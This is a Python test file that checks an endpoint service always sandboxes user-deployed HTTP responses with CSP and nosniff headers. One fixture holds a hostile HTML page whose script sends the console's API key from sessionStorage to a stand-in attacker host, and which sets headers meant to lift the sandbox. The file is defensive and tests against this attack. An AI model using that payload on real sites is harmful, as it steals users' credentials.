"""A source's endpoint answers never run in the console's origin (DECISIONS, Limits; docs/security.md,
"Endpoint answers and the console's origin").

Endpoints share the console's origin, where the console keeps the API key in sessionStorage. Every
`/http/...` answer (a customResponse page, the default `{"success": true}`, 404, 413, 502, a
fault's 500) carries `Content-Security-Policy: sandbox` and `X-Content-Type-Options: nosniff`, and
a component's own headers cannot remove or weaken them. Black-box on both backends, plus the ASGI
layer alone for the answers a test cannot provoke from outside (a fault, a 429).
"""

from __future__ import annotations

import asyncio
import json

import httpx
import pytest

from tests.conftest import Server
from tests.e2e.test_runs import component, deploy

pytestmark = pytest.mark.both_modes

CUSTOM = '{ type: "$.interface.http", customResponse: true }'

# A page with a script, and every header a component might use to lift the sandbox.
HOSTILE_PAGE = component("""
    await this.http.respond({
      status: 200,
      headers: {
        "content-type": "text/html; charset=utf-8",
        "Content-Security-Policy": "sandbox allow-scripts allow-same-origin",
        "x-content-type-options": "sniff",
        "clear-site-data": '"storage"',
      },
      body: "<!doctype html><script>fetch('//evil.example/?k=' + sessionStorage.getItem('headwater.apiKey'))</script>",
    });
""", http=CUSTOM)
OWN_CSP = component("""
    await this.http.respond({ status: 201, headers: { "content-security-policy": "default-src 'none'" }, body: "ok" });
""", http=CUSTOM)
SILENT = component("return;", http=CUSTOM)
PLAIN = component("this.$emit(event.body);")


def policies(response: httpx.Response) -> list[str]:
    """Every CSP policy the answer sends (one header may carry several, comma-separated)."""
    return [p.strip() for value in response.headers.get_list("content-security-policy") for p in value.split(",")]


def assert_sandboxed(response: httpx.Response) -> None:
    assert "sandbox" in policies(response), dict(response.headers)
    assert response.headers.get_list("x-content-type-options") == ["nosniff"], dict(response.headers)
    assert "clear-site-data" not in response.headers


def test_a_custom_html_page_is_sandboxed_whatever_its_headers_say(paid_api: httpx.Client) -> None:
    _, url = deploy(paid_api, HOSTILE_PAGE)
    r = httpx.get(url, timeout=60)
    assert r.status_code == 200 and "<script>" in r.text  # the page is served as the source wrote it...
    assert r.headers["content-type"].startswith("text/html")
    assert_sandboxed(r)  # ...but in an opaque origin: no script runs, no storage is reachable
    assert "sandbox allow-scripts allow-same-origin" in policies(r)  # its own policy only narrows


def test_a_component_csp_is_kept_alongside_the_sandbox(paid_api: httpx.Client) -> None:
    _, url = deploy(paid_api, OWN_CSP)
    r = httpx.post(url, json={}, timeout=60)
    assert r.status_code == 201
    assert_sandboxed(r)
    assert "default-src 'none'" in policies(r)


def test_default_and_error_answers_are_sandboxed(server: Server, paid_api: httpx.Client) -> None:
    _, plain = deploy(paid_api, PLAIN)
    ok = httpx.post(plain, json={"a": 1}, timeout=60)
    assert ok.status_code == 200 and ok.json() == {"success": True}
    assert_sandboxed(ok)
    assert_sandboxed(httpx.head(plain, timeout=60))
    too_large = httpx.post(plain, content=b"x" * (600 * 1024), timeout=60)
    assert too_large.status_code == 413
    assert_sandboxed(too_large)
    missing = httpx.get(f"{server.base_url}/http/en_doesnotexist00000000000", timeout=60)
    assert missing.status_code == 404
    assert_sandboxed(missing)
    _, silent = deploy(paid_api, SILENT)
    bad_gateway = httpx.get(silent, timeout=60)
    assert bad_gateway.status_code == 502
    assert_sandboxed(bad_gateway)


def test_api_and_console_answers_are_not_sandboxed(server: Server) -> None:
    """The rule is for endpoints only: the console itself must still run its script."""
    r = httpx.get(f"{server.base_url}/console/", timeout=60)
    assert r.status_code == 200
    assert "sandbox" not in policies(r)


# the ASGI layer alone: answers no request from outside can provoke on demand


def _call(app: object, path: str) -> tuple[int, list[tuple[bytes, bytes]]]:
    sent: list[dict] = []

    async def receive() -> dict:
        return {"type": "http.request", "body": b"", "more_body": False}

    async def send(message: dict) -> None:
        sent.append(message)

    scope = {"type": "http", "method": "GET", "path": path, "query_string": b"", "headers": []}
    asyncio.run(app(scope, receive, send))  # type: ignore[operator]
    start = sent[0]
    return start["status"], start["headers"]


def test_a_fault_and_a_quota_refusal_on_an_endpoint_are_sandboxed() -> None:
    from headwater.api.endpoint_origin import EndpointOrigin
    from headwater.api.middleware import ContainFaults

    async def faulty(scope: dict, receive: object, send: object) -> None:
        raise RuntimeError("boom")

    status, headers = _call(EndpointOrigin(ContainFaults(faulty)), "/http/en_x")
    assert status == 500
    assert (b"content-security-policy", b"sandbox") in headers and (b"x-content-type-options", b"nosniff") in headers

    async def refusing(scope: dict, receive: object, send: object) -> None:
        body = json.dumps({"error": "quota"}).encode()
        await send({"type": "http.response.start", "status": 429, "headers": [
            (b"content-type", b"application/json"), (b"X-Content-Type-Options", b"sniff")]})
        await send({"type": "http.response.body", "body": body})

    status, headers = _call(EndpointOrigin(refusing), "/http/en_x/sub")
    assert status == 429
    assert [v for n, v in headers if n.lower() == b"x-content-type-options"] == [b"nosniff"]
    assert (b"content-security-policy", b"sandbox") in headers
    _, untouched = _call(EndpointOrigin(refusing), "/v1/users/me")
    assert (b"content-security-policy", b"sandbox") not in untouched
